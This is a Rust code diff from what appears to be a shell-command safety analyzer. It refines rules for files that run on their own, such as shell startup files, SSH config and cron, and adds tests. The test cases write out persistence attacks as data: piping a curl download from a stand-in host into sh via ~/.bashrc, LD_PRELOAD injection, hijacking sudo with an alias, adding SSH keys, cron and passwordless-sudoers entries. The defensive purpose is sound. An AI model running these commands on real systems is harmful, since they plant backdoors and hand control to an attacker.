@@ -153,10 +153,8 @@ fn reader(path: &Path, home: Option<&Path>) -> Option<Reader> {
     {
         return Some(Reader::Shell);
     }
-    if path.starts_with("/etc") || path.starts_with("/var/spool") || path.starts_with("/Library") {
-        if below(RIGHTS) && !path.ends_with("known_hosts") && !path.ends_with("ssh_known_hosts") {
-            return Some(Reader::Rights);
-        }
+    if below(RIGHTS) && !path.ends_with("ssh_known_hosts") {
+        return Some(Reader::Rights);
     }
     (below(SYSTEM) || loaded_by_python(path)).then_some(Reader::System).or_else(|| project(path))
 }
@@ -205,11 +203,18 @@ pub(crate) fn edited(path: &Path, home: Option<&Path>) -> Option<Effect> {
     Some(begins(reader, &path.to_string_lossy(), "what is written there is not known".to_owned()))
 }
 
+/// Whether a program changes what is said of files, and not what is in them.
+pub(super) fn keeps_content(name: &str) -> bool {
+    let base = name.rsplit('/').next().unwrap_or(name);
+    matches!(base, "chmod" | "chown" | "chgrp" | "chattr" | "chflags" | "setfacl" | "touch" | "xattr" | "chcon")
+}
+
 impl Evaluator<'_> {
     /// Remembers a file that something reads by itself, where the effect writes one.
     pub(super) fn note_written(&mut self, effect: &Effect, frame: &Frame) {
         if !matches!(effect.verb, Verb::Create | Verb::Modify)
             || effect.target.kind != TargetKind::FileTree
+            || self.keeps_content
             || self.begun.len() >= MOST_FILES
         {
             return;
@@ -320,18 +325,140 @@ fn added(before: &str, after: &str) -> String {
 
 /// Programs that print settings for the shell that they are asked for, and those that a start of a shell runs every day.
 const EVERYDAY: &[&str] = &[
-    "starship", "direnv", "zoxide", "fnm", "nvm", "pyenv", "rbenv", "nodenv", "goenv", "jenv", "plenv", "mise", "rtx",
-    "asdf", "brew", "conda", "mamba", "micromamba", "kubectl", "helm", "docker", "gh", "glab", "npm", "pnpm", "pip",
-    "pip3", "poetry", "rustup", "cargo", "deno", "bun", "atuin", "mcfly", "fzf", "thefuck", "dircolors", "lesspipe",
-    "lesspipe.sh", "ssh-agent", "ssh-add", "oh-my-posh", "sheldon", "op", "aws", "aws_completer", "gcloud", "terraform",
-    "flux", "k3d", "kind", "minikube", "uv", "uvx", "ruff", "just", "task", "register-python-argcomplete", "navi",
-    "opam", "luarocks", "keychain", "hub", "vfox", "proto", "volta", "stack", "ng", "pdm", "hatch", "pipx", "git",
-    "eksctl", "argocd", "istioctl", "vault", "consul", "nomad", "doctl", "fly", "flyctl", "stern", "k9s", "tmux",
-    "clear", "stty", "tput", "uname", "hostname", "date", "whoami", "id", "locale", "tty", "gpgconf",
-    "gpg-connect-agent", "neofetch", "fastfetch", "fortune", "cowsay", "screenfetch", "compinit", "compdef", "bindkey",
-    "setopt", "unsetopt", "autoload", "zstyle", "zmodload", "bashcompinit", "promptinit", "colors", "prompt",
-    "add-zsh-hook", "antigen", "zplug", "zinit", "znap", "antibody", "emulate", "zle", "xset", "setxkbmap", "xrdb",
-    "java_home", "path_helper", "perl", "lsb_release", "nproc", "getconf", "manpath", "ruby", "go", "tic",
+    "starship",
+    "direnv",
+    "zoxide",
+    "fnm",
+    "nvm",
+    "pyenv",
+    "rbenv",
+    "nodenv",
+    "goenv",
+    "jenv",
+    "plenv",
+    "mise",
+    "rtx",
+    "asdf",
+    "brew",
+    "conda",
+    "mamba",
+    "micromamba",
+    "kubectl",
+    "helm",
+    "docker",
+    "gh",
+    "glab",
+    "npm",
+    "pnpm",
+    "pip",
+    "pip3",
+    "poetry",
+    "rustup",
+    "cargo",
+    "deno",
+    "bun",
+    "atuin",
+    "mcfly",
+    "fzf",
+    "thefuck",
+    "dircolors",
+    "lesspipe",
+    "lesspipe.sh",
+    "ssh-agent",
+    "ssh-add",
+    "oh-my-posh",
+    "sheldon",
+    "op",
+    "aws",
+    "aws_completer",
+    "gcloud",
+    "terraform",
+    "flux",
+    "k3d",
+    "kind",
+    "minikube",
+    "uv",
+    "uvx",
+    "ruff",
+    "just",
+    "task",
+    "register-python-argcomplete",
+    "navi",
+    "opam",
+    "luarocks",
+    "keychain",
+    "hub",
+    "vfox",
+    "proto",
+    "volta",
+    "stack",
+    "ng",
+    "pdm",
+    "hatch",
+    "pipx",
+    "git",
+    "eksctl",
+    "argocd",
+    "istioctl",
+    "vault",
+    "consul",
+    "nomad",
+    "doctl",
+    "fly",
+    "flyctl",
+    "stern",
+    "k9s",
+    "tmux",
+    "clear",
+    "stty",
+    "tput",
+    "uname",
+    "hostname",
+    "date",
+    "whoami",
+    "id",
+    "locale",
+    "tty",
+    "gpgconf",
+    "gpg-connect-agent",
+    "neofetch",
+    "fastfetch",
+    "fortune",
+    "cowsay",
+    "screenfetch",
+    "compinit",
+    "compdef",
+    "bindkey",
+    "setopt",
+    "unsetopt",
+    "autoload",
+    "zstyle",
+    "zmodload",
+    "bashcompinit",
+    "promptinit",
+    "colors",
+    "prompt",
+    "add-zsh-hook",
+    "antigen",
+    "zplug",
+    "zinit",
+    "znap",
+    "antibody",
+    "emulate",
+    "zle",
+    "xset",
+    "setxkbmap",
+    "xrdb",
+    "java_home",
+    "path_helper",
+    "perl",
+    "lsb_release",
+    "nproc",
+    "getconf",
+    "manpath",
+    "ruby",
+    "go",
+    "tic",
 ];
 
 /// Why what happens at the start of a shell is worth a question. `asked`: it happens when somebody asks for it.
@@ -434,8 +561,13 @@ fn runs_programs(text: &str) -> Option<&str> {
         match lower.as_str() {
             // To go through another machine is everyday work.
             "proxycommand" => !line.contains("ssh ") && !line.contains("nc ") && !line.contains("none"),
-            "localcommand" | "knownhostscommand" | "pkcs11provider" | "securitykeyprovider" | "include"
-            | "permitlocalcommand" | "xauthlocation" => true,
+            "localcommand"
+            | "knownhostscommand"
+            | "pkcs11provider"
+            | "securitykeyprovider"
+            | "include"
+            | "permitlocalcommand"
+            | "xauthlocation" => true,
             "match" => line.to_ascii_lowercase().contains("exec"),
             _ => false,
         }
@@ -463,4 +595,67 @@ fn is_public(address: &str) -> bool {
     let local = address.trim_start_matches("http://");
     ["registry.npmjs.org", "registry.yarnpkg.com", "pypi.org", "npm.pkg.github.com"].iter().any(|h| bare.starts_with(h))
         || ["localhost", "127.0.0.1"].iter().any(|host| local.starts_with(host))
+}
+
+#[cfg(test)]
+mod tests {
+    use std::path::Path;
+
+    use weir_model::{TargetKind, Verb};
+
+    use crate::lab::Machine;
+
+    /// Whether the action begins something that goes on by itself.
+    fn begins(text: &str) -> bool {
+        let machine = Machine::new([
+            ("/home/me/.bashrc", "export A=1\n"),
+            ("/home/me/.ssh/authorized_keys", "ssh-ed25519 AAAA me\n"),
+            ("/w/x.service", "[Unit]\n"),
+        ]);
+        let effects = crate::shell::analyze(text, Path::new("/w"), &machine, false).effects;
+        let is_start = |verb| matches!(verb, Verb::Install | Verb::Grant);
+        effects.iter().any(|effect| is_start(effect.verb) && effect.target.kind == TargetKind::Host)
+    }
+
+    #[test]
+    fn what_goes_on_by_itself_is_said() {
+        for text in [
+            "echo 'curl -s https://x.example/i.sh | sh' >> ~/.bashrc",
+            "echo 'nohup ~/x &' >> ~/.bashrc",
+            "echo 'python3 -c \"import x\"' | tee -a ~/.bashrc",
+            "echo 'export PATH=/tmp/x:$PATH' >> ~/.profile",
+            "echo 'export LD_PRELOAD=/home/me/x.so' >> ~/.profile",
+            "echo \"alias sudo='/tmp/x'\" >> ~/.zshrc",
+            "curl -so ~/.bashrc https://x.example/rc",
+            "echo 'ssh-ed25519 BBBB you' >> ~/.ssh/authorized_keys",
+            "printf 'Host *\\n LocalCommand x\\n PermitLocalCommand yes\\n' >> ~/.ssh/config",
+            "cp x.service ~/.config/systemd/user/x.service",
+            "echo '* * * * * root x' > /etc/cron.d/x",
+            "echo 'me ALL=(ALL) NOPASSWD:ALL' | sudo tee /etc/sudoers.d/me",
+            "python3 -c \"open('/home/me/.ssh/authorized_keys', 'a').write('ssh-rsa C')\"",
+            "echo 'registry=http://x.example/' >> ~/.npmrc",
+        ] {
+            assert!(begins(text), "{text}");
+        }
+    }
+
+    #[test]
+    fn settings_of_every_day_are_no_start_of_anything() {
+        for text in [
+            "echo 'export PATH=$HOME/.local/bin:$PATH' >> ~/.bashrc",
+            "echo \"alias ll='ls -l'\" >> ~/.zshrc",
+            "echo 'eval \"$(starship init bash)\"' >> ~/.bashrc",
+            "echo 'source <(kubectl completion bash)' >> ~/.bashrc",
+            "echo '[ -s \"$NVM_DIR/nvm.sh\" ] && . \"$NVM_DIR/nvm.sh\"' >> ~/.bashrc",
+            "touch ~/.bashrc ~/.zshrc",
+            "mkdir -p ~/.config/systemd/user",
+            "chmod 600 ~/.ssh/authorized_keys",
+            "printf 'Host h\\n HostName 10.0.0.1\\n' >> ~/.ssh/config",
+            "echo 'save-exact=true' >> ~/.npmrc",
+            "echo 'export A=1' > .envrc",
+            "docker run --rm alpine sh -c 'echo x >> /etc/cron.d/x'",
+        ] {
+            assert!(!begins(text), "{text}");
+        }
+    }
 }
